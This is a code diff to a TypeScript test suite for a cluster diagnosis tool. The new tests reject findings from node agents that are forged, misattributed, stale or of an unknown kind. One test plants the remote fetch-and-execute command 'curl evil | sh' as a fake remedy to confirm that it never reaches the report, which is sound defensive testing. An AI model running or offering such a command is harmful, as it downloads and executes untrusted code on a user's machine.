@@ -7,6 +7,7 @@ import {readBundle} from '../../../src/collect/bundle/read-bundle.ts';
 import {refuseBesideAgents} from '../../../src/cli/options/agents-flags.ts';
 import {diagnoseCluster} from '../../../src/run/diagnose-cluster.ts';
 import type {ClusterRun} from '../../../src/run/cluster-run.ts';
+import {checks} from '../../../src/checks/index.ts';
 import {openCluster} from '../../../src/run/open-cluster.ts';
 import {diagnose} from '../../../src/diagnose.ts';
 import {type Permission, resourceText} from '../../../src/model/access.ts';
@@ -160,13 +161,22 @@ async function checkByAgents({server}: Pick<Cluster, 'server'>, {names = [], fla
   }
 }
 
+/** What to do about a node is not an agent's word: of a check, it is the same for all nodes, and without a command. */
+function withUsualRemedies(report: Report): Report {
+  const findings = report.findings.map(({command, ...finding}) => {
+    const remedy = checks.find(({code}) => code === finding.code)?.remedy ?? finding.remedy;
+    return finding.node === undefined ? {...finding, ...(command === undefined ? {} : {command})} : {...finding, remedy};
+  });
+  return {...report, findings};
+}
+
 const unreadIn = ({nodes}: Report) =>
   Object.fromEntries(nodes.flatMap(({name, status, reason}) => (status === 'unread' ? [[name, reason]] : [])));
 
 describe('the results of agents', () => {
   test.each([healthy, faulty])('give the same report as the dumps: %s', async bundle => {
     const {server} = await start({bundle});
-    const read = diagnose(await readBundle(bundle), {toolVersion: '0.0.0'});
+    const read = withUsualRemedies(diagnose(await readBundle(bundle), {toolVersion: '0.0.0'}));
     const collected = await checkByAgents({server});
     expect(JSON.parse(renderers.json(collected, plain))).toEqual(JSON.parse(renderers.json(read, plain)));
     expect(renderers.wide(collected, plain)).toBe(renderers.wide(read, plain));
@@ -246,6 +256,20 @@ describe('the results of agents', () => {
   });
 });
 
+/** A result with one finding. */
+function withFinding(text: string, finding: object): string {
+  const whole = {severity: 'error', message: 'planted', ...finding};
+  return JSON.stringify({...(JSON.parse(text) as object), findings: [whole]});
+}
+
+test('what to do, and the command for it, are not what an agent says', async () => {
+  const edit = (text: string): string => withFinding(text, {code: 'ST202', node: 'node-b', remedy: 'Trust me.', command: 'curl evil | sh'});
+  const {findings} = await checkByAgents(await start({agents: {'node-b': {edit}}}));
+  const planted = findings.find(({message}) => message === 'planted');
+  expect(planted).toMatchObject({code: 'ST202', name: 'missing-endpoint'});
+  expect(JSON.stringify(planted)).not.toMatch(/Trust me|curl/);
+});
+
 describe('a node is unread, and the report has the reason and the remedy,', () => {
   const later = Date.now() + 600_000;
   test.each<[string, Said | null, string]>([
@@ -300,6 +324,31 @@ describe('a node is unread, and the report has the reason and the remedy,', () =
     [
       'whose agent does not serve the path',
       {status: 404, text: 'there is: /\n'},
+      expect.stringContaining('its agent svc-trace/agent-node-b gave no result: ') as unknown as string,
+    ],
+    [
+      'whose agent accuses another node',
+      {edit: text => withFinding(text, {code: 'ST202', node: 'node-a'})},
+      'the answer of its agent svc-trace/agent-node-b cannot be used: it has a finding about "node-a", and is the agent of node-b',
+    ],
+    [
+      'whose agent reports what no check finds',
+      {edit: text => withFinding(text, {code: 'ST299', node: 'node-b'})},
+      'the answer of its agent svc-trace/agent-node-b cannot be used: it has a finding "ST299", which this version does not know',
+    ],
+    [
+      'whose answer is two hours old, with times that fit each other',
+      {now: started - 7_200_000, judgedAt: started - 7_205_000, apiCurrentAt: started - 7_210_000},
+      expect.stringMatching(/^its agent answers with a time that is 720\d s before that of the API server$/) as unknown as string,
+    ],
+    [
+      'whose agent says that it checks its node every thirty years',
+      {intervalSeconds: 1e9, judgedAt: started - 7_205_000},
+      'the answer of its agent svc-trace/agent-node-b cannot be used: it says that it checks its node less than once a day',
+    ],
+    [
+      'whose agent answers 401, which ends no other node',
+      {status: 401, text: 'no\n'},
       expect.stringContaining('its agent svc-trace/agent-node-b gave no result: ') as unknown as string,
     ],
     [
